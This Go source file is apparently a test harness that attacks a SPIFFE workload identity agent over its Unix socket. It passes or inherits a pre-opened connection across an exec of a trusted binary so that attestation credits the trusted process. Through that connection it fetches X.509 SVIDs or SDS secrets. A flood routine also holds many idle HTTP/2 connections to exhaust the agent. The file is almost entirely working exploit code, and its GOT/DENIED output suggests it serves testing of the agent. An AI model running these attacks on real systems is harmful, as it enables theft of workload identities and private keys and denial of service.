package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"syscall"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	secretv3 "github.com/envoyproxy/go-control-plane/envoy/service/secret/v3"
	workloadpb "github.com/spiffe/go-spiffe/v2/proto/spiffe/workload"
	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
)

// connect opens a connection to the agent and returns its descriptor, not
// close-on-exec, so that it survives execve.
func connect(sock string) (int, error) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return -1, err
	}
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: sock}); err != nil {
		return -1, fmt.Errorf("connect %s: %w", sock, err)
	}
	return fd, nil
}

// pass: helper first, then connect, send, exec, as fast as possible.
func pass(sock, trusted, api string, park bool) error {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	self, _ := os.Executable()
	args := []string{"receive", api, trusted, strconv.Itoa(os.Getpid())}
	if park {
		args = append(args, "park")
	}
	helper := exec.Command(self, args...)
	helper.Stdout, helper.Stderr = os.Stdout, os.Stderr
	helper.ExtraFiles = []*os.File{os.NewFile(uintptr(pair[1]), "pair")}
	if err := helper.Start(); err != nil {
		return err
	}
	fd, err := connect(sock)
	if err != nil {
		return err
	}
	if err := unix.Sendmsg(pair[0], []byte{1}, unix.UnixRights(fd), nil, 0); err != nil {
		return fmt.Errorf("send the connection: %w", err)
	}
	return syscall.Exec(trusted, []string{trusted}, os.Environ())
}

// fork: connect, let a child inherit the connection, exec.
func fork(sock, trusted, api string) error {
	fd, err := connect(sock)
	if err != nil {
		return err
	}
	self, _ := os.Executable()
	child := exec.Command(self, "use", api, trusted)
	child.Env = append(os.Environ(), "ATTACKER_PARENT="+strconv.Itoa(os.Getpid()))
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	child.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "conn")}
	if err := child.Start(); err != nil {
		return err
	}
	return syscall.Exec(trusted, []string{trusted}, os.Environ())
}

// receive is pass's helper: fd 3 is its end of the socket pair.
func receive(api, trusted, parent string, park bool) error {
	pair := 3
	pid, _ := strconv.Atoi(parent)
	if park { // leave the descriptor in flight while the agent attests
		if err := waitExec(pid, trusted); err != nil {
			return err
		}
	}
	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(pair, buf, oob, 0)
	if err != nil {
		return fmt.Errorf("receive the connection: %w", err)
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		return fmt.Errorf("receive the connection: %v", err)
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) != 1 {
		return fmt.Errorf("receive the connection: %v", err)
	}
	if err := waitExec(pid, trusted); err != nil {
		return err
	}
	return call(api, os.NewFile(uintptr(fds[0]), "passed"))
}

// use is fork's child: fd 3 is the inherited connection.
func use(api, trusted string, f *os.File) error {
	pid, _ := strconv.Atoi(os.Getenv("ATTACKER_PARENT"))
	if err := waitExec(pid, trusted); err != nil {
		return err
	}
	return call(api, f)
}

// waitExec waits until process pid runs trusted.
func waitExec(pid int, trusted string) error {
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if exe, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe"); err == nil && exe == trusted {
			return nil
		}
		time.Sleep(time.Millisecond)
	}
	return fmt.Errorf("process %d did not exec %s", pid, trusted)
}

// call asks for an SVID over the connection in f and prints the outcome.
func call(api string, f *os.File) error {
	nc, err := net.FileConn(f)
	_ = f.Close()
	if err != nil {
		return err
	}
	used := false
	conn, err := grpc.NewClient("passthrough:///agent", grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) {
			if used {
				return nil, errors.New("the passed connection is gone")
			}
			used = true
			return nc, nil
		}))
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var id string
	if api == "sds" {
		id, err = fetchSDS(ctx, conn)
	} else {
		id, err = fetchWorkload(ctx, conn)
	}
	if err != nil {
		st := status.Convert(err)
		fmt.Printf("DENIED %s: %s\n", st.Code(), st.Message())
		return nil
	}
	fmt.Println("GOT", id)
	return nil
}

func fetchWorkload(ctx context.Context, conn *grpc.ClientConn) (string, error) {
	ctx = metadata.AppendToOutgoingContext(ctx, "workload.spiffe.io", "true")
	s, err := workloadpb.NewSpiffeWorkloadAPIClient(conn).FetchX509SVID(ctx, &workloadpb.X509SVIDRequest{})
	if err != nil {
		return "", err
	}
	resp, err := s.Recv()
	if err != nil {
		return "", err
	}
	if len(resp.GetSvids()) == 0 || len(resp.GetSvids()[0].GetX509SvidKey()) == 0 {
		return "", errors.New("empty response")
	}
	return resp.GetSvids()[0].GetSpiffeId(), nil
}

func fetchSDS(ctx context.Context, conn *grpc.ClientConn) (string, error) {
	s, err := secretv3.NewSecretDiscoveryServiceClient(conn).StreamSecrets(ctx)
	if err != nil {
		return "", err
	}
	err = s.Send(&discoveryv3.DiscoveryRequest{Node: &corev3.Node{Id: "attacker"},
		TypeUrl:       "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret",
		ResourceNames: []string{"default"}})
	if err != nil && !errors.Is(err, io.EOF) { // io.EOF: the stream ended; Recv has the status
		return "", err
	}
	resp, err := s.Recv()
	if err != nil {
		return "", err
	}
	if len(resp.GetResources()) == 0 {
		return "", errors.New("empty response")
	}
	return "sds:" + resp.GetResources()[0].GetTypeUrl(), nil
}

// flood holds n idle connections and reports when the agent closes them.
func flood(sock string, n int) error {
	closed := make(chan struct{}, n)
	for range n {
		c, err := net.Dial("unix", sock)
		if err != nil {
			return err
		}
		_, _ = c.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 0, 0, 0, 4, 0, 0, 0, 0, 0))
		go func() {
			_ = c.SetReadDeadline(time.Now().Add(time.Minute))
			_, err := io.Copy(io.Discard, c)
			var ne net.Error
			if !errors.As(err, &ne) || !ne.Timeout() {
				closed <- struct{}{}
			}
		}()
	}
	fmt.Println("ready")
	timeout := time.After(time.Minute)
	k := 0
	for k < n {
		select {
		case <-closed:
			k++
		case <-timeout:
			fmt.Println("closed", k)
			return nil
		}
	}
	fmt.Println("closed", k)
	return nil
}
